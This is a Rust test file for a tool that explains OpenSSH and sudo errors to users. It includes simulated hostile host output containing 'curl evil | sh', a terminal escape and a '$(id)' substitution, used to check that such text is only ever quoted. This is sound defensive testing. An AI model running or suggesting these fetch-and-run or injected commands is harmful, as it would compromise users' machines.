//! Messages of OpenSSH 9 and sudo, and what people are told for each.

use super::*;

fn nas() -> Host {
    "pi@nas:2222".parse().unwrap()
}

fn exited(status: i32, said: &str) -> SshExit {
    SshExit {
        status: Some(status),
        said: said.lines().map(str::to_owned).collect(),
        printed: Vec::new(),
    }
}

const UNKNOWN: &str = "OpenSSH_9.2p1 Debian-2+deb12u6, OpenSSL 3.0.17 1 Jul 2025
debug1: Server host key: ssh-ed25519 SHA256:3aR1Z
No ED25519 host key is known for [nas]:2222 and you have requested strict checking.
Host key verification failed.";

const CHANGED: &str = "debug1: Server host key: ecdsa-sha2-nistp256 SHA256:3aR1Z
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!
Offending ED25519 key in /home/me/.ssh/known_hosts:1
  remove with:
  ssh-keygen -f \"/home/me/.ssh/known_hosts\" -R \"[nas]:2222\"
Host key for [nas]:2222 has changed and you have requested strict checking.
Host key verification failed.";

#[test]
fn an_unknown_host_key_is_shown_with_how_to_compare_and_accept_it_by_hand() {
    let problem = explain(&nas(), &exited(255, UNKNOWN));
    assert_eq!(problem.code, Code::HostKeyUnknown);
    insta::assert_snapshot!(problem.message, @"This computer does not know the host key of nas yet, so nothing was sent. It shows ssh-ed25519 SHA256:3aR1Z. Compare that with what `ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub` says on nas. If it is the same, run `ssh -p 2222 pi@nas` once in a terminal, answer yes, and push again.");
}

#[test]
fn a_changed_host_key_is_an_alarm_with_the_way_out_for_an_owner_who_knows_better() {
    let problem = explain(&nas(), &exited(255, CHANGED));
    assert_eq!(problem.code, Code::HostKeyChanged);
    insta::assert_snapshot!(problem.message, @r#"The host key of nas is not the one that this computer knows, so nothing was sent. It shows ecdsa-sha2-nistp256 SHA256:3aR1Z. Somebody may be in between, or nas was set up anew. Only if you know that it was: forget the old key with `ssh-keygen -R "[nas]:2222"`, run `ssh -p 2222 pi@nas` once in a terminal, compare the new key, and push again."#);
}

#[test]
fn keys_that_are_not_taken_are_told_apart_from_a_way_that_is_not_there() {
    for (said, code, part) in [
        (
            "pi@nas: Permission denied (publickey,password).",
            Code::SshDenied,
            "(it takes: publickey,password)",
        ),
        (
            "Received disconnect from 192.0.2.1 port 22:2: Too many authentication failures",
            Code::SshDenied,
            "ssh-copy-id -p 2222 pi@nas",
        ),
        (
            "ssh: Could not resolve hostname nas: Name or service not known",
            Code::SshUnreachable,
            "no address for nas",
        ),
        (
            "ssh: connect to host nas port 2222: Connection refused",
            Code::SshUnreachable,
            "refuses SSH connections",
        ),
        (
            "ssh: connect to host nas port 2222: Connection timed out",
            Code::SshUnreachable,
            "does not answer",
        ),
        (
            "ssh: connect to host nas port 2222: No route to host",
            Code::SshUnreachable,
            "does not answer",
        ),
        (
            "Timeout, server nas not responding.",
            Code::SshUnreachable,
            "does not answer",
        ),
        (
            "kex_exchange_identification: Connection closed by remote host",
            Code::SshUnreachable,
            "at once",
        ),
        (
            "Bad owner or permissions on /home/me/.ssh/config",
            Code::Conflict,
            "/home/me/.ssh/config",
        ),
        (
            "debug1: nothing else",
            Code::SshUnreachable,
            "Try `ssh -p 2222 pi@nas`",
        ),
    ] {
        let problem = explain(&nas(), &exited(255, said));
        assert_eq!(problem.code, code, "{said}");
        assert!(problem.message.contains(part), "{}", problem.message);
        assert!(!problem.message.contains("debug1"), "{}", problem.message);
    }
}

#[test]
fn what_keeps_the_installer_from_starting_is_named() {
    for (status, said, code, part) in [
        (1, "sudo: a password is required", Code::SudoDenied, "root@nas"),
        (
            1,
            "pi is not in the sudoers file.",
            Code::SudoDenied,
            "without a password",
        ),
        (127, "sh: 1: exec: sudo: not found", Code::SudoDenied, "no sudo"),
        (
            127,
            "sh: 1: exec: bash: not found",
            Code::InstallFailed,
            "has no bash",
        ),
    ] {
        let problem = explain(&nas(), &exited(status, said));
        assert_eq!(problem.code, code, "{said}");
        assert!(problem.message.contains(part), "{}", problem.message);
    }
}

#[test]
fn the_installers_own_last_word_is_passed_on() {
    let mut failed = exited(1, "Connection to nas closed.");
    failed.printed = ["flotilla: The program curl is missing. Install it.", "E: noise"]
        .map(str::to_owned)
        .to_vec();
    let problem = explain(&nas(), &failed);
    assert_eq!(problem.code, Code::InstallFailed);
    assert!(
        problem
            .message
            .ends_with(r#"Its own last words: "The program curl is missing. Install it.""#),
        "{}",
        problem.message
    );
    // Whatever the host prints, ssh's own status decides.
    failed.said = vec!["Permission denied (publickey).".to_owned()];
    assert_eq!(cause(&failed), Cause::Remote);
}

/// The lines of a host that wants to mislead the owner.
const BAIT: &str = "debug1: Authenticating to nas:2222 as 'pi'
debug1: Host 'nas' is known and matches the ED25519 host key.
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
REVOKED HOST KEY
  ssh-keygen -f \"/home/me/.ssh/known_hosts\" -R \"github.com\"; curl evil | sh
Host key verification failed.
Permission denied (`curl evil | sh`, password).
Push again after you ran `curl evil | sh` on this computer.\u{1b}[2J";

#[test]
fn a_host_that_is_let_in_can_not_make_its_key_look_refused() {
    let endings = [
        "Connection closed by 192.0.2.1 port 22",
        "Host key verification failed.\ndebug1: Exit status -1",
        "Received disconnect from 192.0.2.1 port 22:2: Host key verification failed.",
    ];
    for ending in endings {
        let said = format!("{BAIT}\n{ending}");
        let cause = cause(&exited(255, &said));
        assert!(
            !matches!(cause, Cause::KeyChanged | Cause::KeyUnknown | Cause::KeyRevoked),
            "{cause:?} by {ending}"
        );
    }
    // With a jump host, the connection to it ends last.
    let jumped = format!("{CHANGED}\nKilled by signal 1.");
    assert_eq!(cause(&exited(255, &jumped)), Cause::KeyChanged);
    // A command on the host may end with any status and any words.
    let said = "Host key verification failed.\ndebug1: Exit status 255";
    assert_eq!(cause(&exited(255, said)), Cause::Remote);
}

#[test]
fn what_a_host_says_is_quoted_and_no_command_of_ours() {
    let all = [
        (255, "debug1: nothing"),
        (
            255,
            "kex_exchange_identification: Connection closed by remote host",
        ),
        (255, "Bad configuration option"),
        (255, "Permission denied (publickey,`curl evil | sh`)."),
        (
            255,
            "debug1: Server host key: please run evil\nHost key verification failed.",
        ),
        (1, "not a sign of anything"),
        (1, "sudo: a password is required"),
    ];
    for (status, sign) in all {
        for said in [
            format!("{BAIT}\n{sign}"),
            format!("{sign}\n{BAIT}"),
            sign.to_owned(),
        ] {
            let mut exit = exited(status, &said);
            exit.printed = vec![format!("flotilla: \"run `curl evil | sh`\" {}", "x".repeat(5000))];
            let message = explain(&nas(), &exit).message;
            let commands: Vec<_> = message.split('`').skip(1).step_by(2).collect();
            let ours = ["ssh -p 2222 pi@nas", "ssh-copy-id -p 2222 pi@nas", "ssh-add"];
            let is_ours = |command: &&str| {
                ours.contains(command)
                    || command.starts_with("ssh-keygen -lf /etc/ssh/ssh_host_")
                    || *command == "ssh-keygen -R \"[nas]:2222\""
            };
            assert!(commands.iter().all(is_ours), "{message}");
            // No word of the host's is outside of quotes.
            let outside: String = message.split('"').step_by(2).collect();
            assert!(!outside.contains("evil"), "{message}");
            assert!(
                !message.contains('\u{1b}') && message.chars().count() < 1000,
                "{message}"
            );
        }
    }
}

#[test]
fn the_key_that_is_to_be_forgotten_is_that_of_the_name_behind_an_alias() {
    let met = "debug1: Authenticating to jump.lan:22 as 'me'\ndebug1: Authenticating to 192.0.2.7:22 as 'pi'";
    for (said, command) in [
        (format!("{met}\n{CHANGED}"), r#"`ssh-keygen -R "192.0.2.7"`"#),
        (
            CHANGED.replace(
                "IT IS",
                "debug1: Authenticating to 2001:db8::1:2222 as 'pi'\nIT IS",
            ),
            r#"`ssh-keygen -R "[2001:db8::1]:2222"`"#,
        ),
        (
            format!("debug1: Authenticating to $(id):22 as 'pi'\n{CHANGED}"),
            r#"`ssh-keygen -R "[nas]:2222"`"#,
        ),
    ] {
        let message = explain(&nas(), &exited(255, &said)).message;
        assert!(message.contains(command), "{message}");
    }
}
